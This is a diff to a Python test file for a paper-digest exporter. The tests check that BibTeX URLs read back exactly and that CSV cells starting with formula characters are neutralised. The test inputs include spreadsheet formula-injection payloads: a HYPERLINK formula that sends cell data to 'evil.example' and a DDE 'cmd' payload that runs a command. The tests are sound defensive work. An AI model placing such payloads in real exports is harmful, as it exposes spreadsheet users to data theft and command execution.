@@ -15,6 +15,7 @@ from pybtex.database.output.bibtex import Writer as BibTeXWriter
 
 from conftest import SEED_ENTRIES, read_seed
 from conftest import run_digest as run
+from digest_archive import urls
 from digest_archive.cite import (
     CSV_COLUMNS,
     _bib_entry,
@@ -408,11 +409,32 @@ def test_hostile_links_and_categories():
     )
     text = bibtex_entry(digest("2020-12-16"), entry, "key")
     (parsed,) = parse_string(text, "bibtex").entries.values()
-    # What URLs may not hold is %-encoded; pybtex writes % as \% (hyperref's \url reads it back).
-    assert latex_text(parsed.fields["url"]) == "https://example.com/a%20b/%7Bx%7D%5Cy%22z/%E7%A5%9E%E7%BB%8F"
+    # What URLs may not hold is %-encoded, and the url is written as it is: BibTeX reads it verbatim.
+    assert parsed.fields["url"] == "https://example.com/a%20b/%7Bx%7D%5Cy%22z/%E7%A5%9E%E7%BB%8F"
     assert latex_text(parsed.fields["note"]).endswith("; Weibo: https://weibo.com/1402400261/Jy%7BF")
     assert latex_text(parsed.fields["keywords"]) == "L{G"
     assert not CJK.search(text)
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://example.com/a%20b",
+        "https://example.com/page#frag",
+        "https://example.com/a_b",
+        "https://example.com/?x=1&y=2",
+        "https://example.com/~user/",
+        "http://example.com/100%25_sure?q=a&b#top~1",
+    ],
+)
+def test_bibtex_url_reads_back_byte_for_byte(url):
+    entry = paper(links=(url, "https://weibo.com/1402400261/JyF_s#x"))
+    text = bibtex_entry(digest("2020-12-16"), entry, "key")
+    assert f'url = "{url}"' in text
+    (parsed,) = parse_string(text, "bibtex").entries.values()
+    assert parsed.fields["url"] == url
+    # The note is text: LaTeX escapes stay.
+    assert parsed.fields["note"].endswith(r"; Weibo: https://weibo.com/1402400261/JyF\_s\#x")
 
 
 def test_no_authors_no_title_no_links():
@@ -449,6 +471,46 @@ def test_any_text_gives_valid_bibtex(title, author, category):
     if title.split():
         assert latex_text(parsed.fields["title"][1:-1]) == " ".join(title.split())
     assert len(parsed.persons.get("author", [])) == (1 if author.split() else 0)
+
+
+# What follows a link's start: any text, or text made of what BibTeX, LaTeX and URLs treat specially.
+_URL_TEXT = st.one_of(
+    st.text(), st.lists(st.sampled_from([*'%#_&~{}\\"@$^,?=/', "%20", "a", "神"])).map("".join)
+)
+# Links as the parser keeps them (one http(s) token), many of them arXiv or Weibo links.
+_LINK = (
+    st.builds(
+        str.__add__,
+        st.sampled_from(
+            [
+                "http://",
+                "https://",
+                "https://example.com/",
+                "https://arxiv.org/abs/2210.06441",
+                "http://export.arxiv.org/pdf/hep-th/9901001v2.pdf#",
+                "https://weibo.com/1402400261/JyFsjATR5",
+            ]
+        ),
+        _URL_TEXT,
+    )
+    .map(lambda link: "".join(link.split()))
+    .filter(urls.is_http)
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(link=_LINK)
+def test_bibtex_url_is_the_link_as_encoded(link):
+    """pybtex's parser reads back the arXiv abstract page or the %-encoded link, byte for byte."""
+    found = urls.arxiv_id(link)
+    text = bibtex_entry(digest("2022-10-15"), paper(links=(link,)), "key")
+    (parsed,) = parse_string(text, "bibtex").entries.values()
+    if found is None:
+        assert parsed.fields["url"] == urls.encode(link)
+        assert "eprint" not in parsed.fields
+    else:
+        assert parsed.fields["url"] == f"https://arxiv.org/abs/{found.id}"
+        assert parsed.fields["eprint"] == found.id
 
 
 @settings(max_examples=300, deadline=None)
@@ -502,6 +564,84 @@ def test_csv_to_a_file_is_utf8(capsys, tmp_path, seeds):
     assert by_key["kunin2020neural"]["summary_zh"] == original.summary_zh
     assert by_key["kunin2020neural"]["abstract_en"] == original.abstract_en
     assert all(row["line"].isdigit() for row in rows)
+
+
+# What spreadsheets take for the start of a formula: OWASP's list, and a line feed.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
+# The columns that hold the text every_text_field gives every field.
+_TEXT_COLUMNS = (
+    "title",
+    "title_zh",
+    "authors",
+    "affiliations",
+    "category",
+    "summary_zh",
+    "abstract_en",
+    "figures",
+)
+
+
+def written_csv(digests: list[Digest]) -> list[dict[str, str]]:
+    """The rows of ``digests`` as ``digest export --format csv`` writes them, read back."""
+    buffer = io.StringIO(newline="")
+    writer = csv.DictWriter(buffer, fieldnames=CSV_COLUMNS)
+    writer.writeheader()
+    writer.writerows(csv_rows(digests))
+    return list(csv.DictReader(io.StringIO(buffer.getvalue(), newline="")))
+
+
+def every_text_field(text: str, link: str = "https://example.com/") -> Entry:
+    """A paper whose every text field (authors, affiliations and figures: one each) is ``text``."""
+    return paper(text, (text,), category=text, links=(link,)).model_copy(
+        update={
+            "title_zh": text,
+            "affiliations": [text],
+            "summary_zh": text,
+            "abstract_en": text,
+            "figures": [text],
+        }
+    )
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=1+2",
+        "+A1",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+2",
+        "\r=1+2",
+        "\n=1+2",
+        '=HYPERLINK("https://evil.example/?"&A1,"click")',
+        "=cmd|' /C calc'!A0",
+    ],
+)
+def test_csv_cells_that_start_a_formula_get_a_quote(text):
+    (row,) = written_csv([digest("2020-12-16", every_text_field(text))])
+    for column in _TEXT_COLUMNS:
+        assert row[column] == "'" + text, column
+
+
+@pytest.mark.parametrize("text", ["Neural Mechanics", "'=1+2", " =1+2", "1+2", "a=b", "L-BFGS", "神经-力学"])
+def test_other_csv_cells_are_written_as_they_are(text):
+    (row,) = written_csv([digest("2020-12-16", every_text_field(text))])
+    for column in _TEXT_COLUMNS:
+        assert row[column] == text, column
+
+
+# Text of any kind, and text made of what starts formulas and what CSV quotes.
+_CELL_TEXT = st.one_of(st.text(), st.lists(st.sampled_from([*"=+-@\t\r\n'\",; aZ神", "=1+2"])).map("".join))
+
+
+@settings(max_examples=300, deadline=None)
+@given(text=_CELL_TEXT, link=_CELL_TEXT)
+def test_no_csv_cell_starts_a_formula(text, link):
+    """No cell starts a formula; each is its value, with one quote added only if the value would."""
+    (row,) = written_csv([digest("2020-12-16", every_text_field(text, link))])
+    assert not any(cell.startswith(FORMULA_START) for cell in row.values())
+    for column, value in {**dict.fromkeys(_TEXT_COLUMNS, text), "links": link}.items():
+        assert row[column] == ("'" + value if value.startswith(FORMULA_START) else value), column
 
 
 # --- the command ---------------------------------------------------------------------------
